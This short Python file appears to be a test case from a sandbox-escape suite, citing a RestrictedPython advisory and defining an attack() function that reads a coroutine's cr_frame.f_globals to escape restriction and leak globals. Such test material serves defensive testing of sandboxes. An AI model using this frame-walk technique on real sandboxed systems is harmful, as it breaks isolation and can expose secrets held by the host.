# mypy: ignore-errors
# Technique: coroutine `cr_frame.f_globals` (vm2-style frame walk via async function).
# Advisory: CVE-2023-37271 / GHSA-wqc8-x2pr-7jqh (RestrictedPython: stack-frame escape, here
# through a coroutine's cr_frame)
def attack(secret_path, canary_path):
    async def co():
        return 1

    c = co()
    try:
        return repr(c.cr_frame.f_globals)
    finally:
        c.close()
